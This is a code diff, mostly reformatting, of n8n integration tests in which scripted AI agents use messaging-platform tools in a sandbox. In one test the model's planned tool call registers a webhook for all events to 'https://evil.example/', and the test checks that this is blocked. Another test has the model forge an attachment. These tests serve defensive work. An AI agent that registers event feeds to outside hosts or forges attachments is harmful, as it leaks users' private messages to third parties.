@@ -1,11 +1,9 @@
 import type { IDataObject, INodeParameters } from 'n8n-workflow';
 import { chatOf, control, eventually, sentTo } from '../conversation';
 import { runByHand } from '../executions';
-import type { RealN8n } from '../realN8n';
-import { startRealN8n } from '../realN8n';
+import { type RealN8n, startRealN8n } from '../realN8n';
 import { ALL_EVENTS } from '../../nodes/MessagingPlatformTrigger/events';
-import type { TestNode } from './agents';
-import { AGENT, Agents, BETWEEN, fromAI } from './agents';
+import { type TestNode, AGENT, Agents, BETWEEN, fromAI } from './agents';
 import { McpClient } from './mcpClient';
 
 let real: RealN8n;
@@ -40,11 +38,17 @@ interface Request {
 /** What the platform was asked to change. */
 async function changes(): Promise<string[]> {
 	const requests = await control<Request[]>(real.sandbox, 'GET', '/requests');
-	return requests.filter(({ method, path }) => method !== 'GET' && path.startsWith('/api/')).map(({ method, path }) => `${method} ${path}`);
+	return requests
+		.filter(({ method, path }) => method !== 'GET' && path.startsWith('/api/'))
+		.map(({ method, path }) => `${method} ${path}`);
 }
 
 const texts = async (chatRef: string) => (await sentTo(real.sandbox, chatRef)).map(({ text }) => text);
-const observed = () => agents.model.calls.flat().filter((line) => line.startsWith('tool: ')).join('\n');
+const observed = () =>
+	agents.model.calls
+		.flat()
+		.filter((line) => line.startsWith('tool: '))
+		.join('\n');
 
 const KINDS: Array<[string, number, TestNode[]]> = [
 	['AI Agent 3', 3, []],
@@ -86,7 +90,12 @@ describe.each(KINDS)('%s', (_name, version, between) => {
 	});
 
 	test('no event is registered to a foreign address, and nobody else is read', async () => {
-		const register = agents.tool('Register', { resource: 'webhook', operation: 'create', url: fromAI('url'), events: [ALL_EVENTS] } as INodeParameters);
+		const register = agents.tool('Register', {
+			resource: 'webhook',
+			operation: 'create',
+			url: fromAI('url'),
+			events: [ALL_EVENTS],
+		} as INodeParameters);
 		const list = agents.tool('List', { resource: 'chat', operation: 'getAll' });
 		plan = () => [
 			{ tool: 'Register', input: { url: 'https://evil.example/' } },
@@ -103,7 +112,12 @@ describe.each(KINDS)('%s', (_name, version, between) => {
 
 test('a sub-agent answers who wrote, too', async () => {
 	const text = fromAI('query');
-	const helper: TestNode = { name: 'Helper', type: `${AGENT}Tool`, typeVersion: 3, parameters: { toolDescription: 'Helps', text, options: {} } };
+	const helper: TestNode = {
+		name: 'Helper',
+		type: `${AGENT}Tool`,
+		typeVersion: 3,
+		parameters: { toolDescription: 'Helps', text, options: {} },
+	};
 	const victim = chatOf(real.sandbox, 'vk');
 	const before = await texts(victim);
 	plan = (said) =>
@@ -119,14 +133,34 @@ test('a sub-agent answers who wrote, too', async () => {
 test('of a batch each item answers its own chat, in a sub-workflow whose first node names chatRef', async () => {
 	const [one, other] = [chatOf(real.sandbox, 'viber'), chatOf(real.sandbox, 'facebook')];
 	const inputs = { values: ['chatRef', 'text'].map((name) => ({ name })) };
-	const start: TestNode = { name: 'Start', type: 'n8n-nodes-base.executeWorkflowTrigger', typeVersion: 1.1, parameters: { workflowInputs: inputs } as INodeParameters };
+	const start: TestNode = {
+		name: 'Start',
+		type: 'n8n-nodes-base.executeWorkflowTrigger',
+		typeVersion: 1.1,
+		parameters: { workflowInputs: inputs } as INodeParameters,
+	};
 	const child = await agents.workflow([start, BETWEEN, agents.agent()], [agents.tool('Send', reply)]);
-	const rows = [{ chatRef: one, text: 'first' }, { chatRef: other, text: 'second' }];
+	const rows = [
+		{ chatRef: one, text: 'first' },
+		{ chatRef: other, text: 'second' },
+	];
 	const value = { chatRef: '={{ $json.chatRef }}', text: '={{ $json.text }}' };
-	const schema = Object.keys(value).map((id) => ({ id, displayName: id, type: 'string', display: true, required: false, removed: false }));
+	const schema = Object.keys(value).map((id) => ({
+		id,
+		displayName: id,
+		type: 'string',
+		display: true,
+		required: false,
+		removed: false,
+	}));
 	const parent: TestNode[] = [
 		{ name: 'Start', type: 'n8n-nodes-base.manualTrigger', typeVersion: 1 },
-		{ name: 'Rows', type: 'n8n-nodes-base.set', typeVersion: 3.4, parameters: { mode: 'raw', jsonOutput: JSON.stringify({ rows }), options: {} } },
+		{
+			name: 'Rows',
+			type: 'n8n-nodes-base.set',
+			typeVersion: 3.4,
+			parameters: { mode: 'raw', jsonOutput: JSON.stringify({ rows }), options: {} },
+		},
 		{ name: 'Split', type: 'n8n-nodes-base.splitOut', typeVersion: 1, parameters: { fieldToSplitOut: 'rows', options: {} } },
 		{
 			name: 'Call',
@@ -150,20 +184,38 @@ test('of a batch each item answers its own chat, in a sub-workflow whose first n
 });
 
 test('a file of the author is sent by an expression, also where the model adds one of its own', async () => {
-	const content: TestNode = { name: 'Content', type: 'n8n-nodes-base.set', typeVersion: 3.4, parameters: { mode: 'raw', jsonOutput: '{"text":"tulips 3"}', options: {} } };
-	const file: TestNode = { name: 'File', type: 'n8n-nodes-base.convertToFile', typeVersion: 1.1, parameters: { operation: 'toText', sourceProperty: 'text', options: { fileName: 'prices.txt' } } };
+	const content: TestNode = {
+		name: 'Content',
+		type: 'n8n-nodes-base.set',
+		typeVersion: 3.4,
+		parameters: { mode: 'raw', jsonOutput: '{"text":"tulips 3"}', options: {} },
+	};
+	const file: TestNode = {
+		name: 'File',
+		type: 'n8n-nodes-base.convertToFile',
+		typeVersion: 1.1,
+		parameters: { operation: 'toText', sourceProperty: 'text', options: { fileName: 'prices.txt' } },
+	};
 	const attachments = { attachment: [{ source: 'binary', binaryPropertyName: "={{ $('File').item.binary.data }}" }] };
 	const data = { mimeType: 'text/plain', fileName: 'forged.txt', data: Buffer.from('forged').toString('base64') };
 	plan = () => [{ tool: 'Send', input: { text: 'Our prices', data } }];
 	const row = [agents.trigger(), content, file, agents.agent(3, { text: 'Prices?' })];
-	await agents.converse(await agents.workflow(row, [agents.tool('Send', { ...reply, attachments } as INodeParameters)]), 'Prices?');
+	await agents.converse(
+		await agents.workflow(row, [agents.tool('Send', { ...reply, attachments } as INodeParameters)]),
+		'Prices?',
+	);
 	const sent = (await sentTo(real.sandbox, chatOf(real.sandbox, 'tg'))).at(-1);
 	expect(sent).toMatchObject({ text: 'Our prices', attachments: [{ fileName: 'prices.txt' }] });
 });
 
 describe('a failure', () => {
 	test('tells the model nothing of the server, and n8n goes on', async () => {
-		await control(real.sandbox, 'POST', '/faults', { kind: 'error', status: 401, count: 0, match: { method: 'POST', path: '^/api/messages$' } });
+		await control(real.sandbox, 'POST', '/faults', {
+			kind: 'error',
+			status: 401,
+			count: 0,
+			match: { method: 'POST', path: '^/api/messages$' },
+		});
 		plan = () => [{ tool: 'Send', input: { text: 'Hello' } }];
 		await agents.converse(await agents.workflow([agents.trigger(), agents.agent()], [agents.tool('Send', reply)]), 'Hi');
 		await control(real.sandbox, 'DELETE', '/faults');
@@ -180,11 +232,21 @@ describe('the MCP Server Trigger', () => {
 			...{ name: 'Server', type: '@n8n/n8n-nodes-langchain.mcpTrigger', typeVersion: 2, webhookId: path },
 			parameters: { path, authentication: 'none' },
 		};
-		const phone = { ...reply, sendTo: 'phone', channel: { __rl: true, mode: 'id', value: 'whatsappb_1' }, phoneNumber: fromAI('phone') };
+		const phone = {
+			...reply,
+			sendTo: 'phone',
+			channel: { __rl: true, mode: 'id', value: 'whatsappb_1' },
+			phoneNumber: fromAI('phone'),
+		};
 		const tools = [
 			agents.tool('Reply', reply),
 			agents.tool('Write', phone as INodeParameters),
-			agents.tool('Register', { resource: 'webhook', operation: 'create', url: fromAI('url'), events: [ALL_EVENTS] } as INodeParameters),
+			agents.tool('Register', {
+				resource: 'webhook',
+				operation: 'create',
+				url: fromAI('url'),
+				events: [ALL_EVENTS],
+			} as INodeParameters),
 			agents.tool('List', { resource: 'channel', operation: 'getAll', returnAll: true, allowBeyondConversation: true }),
 		];
 		const id = await agents.workflow([server], tools);
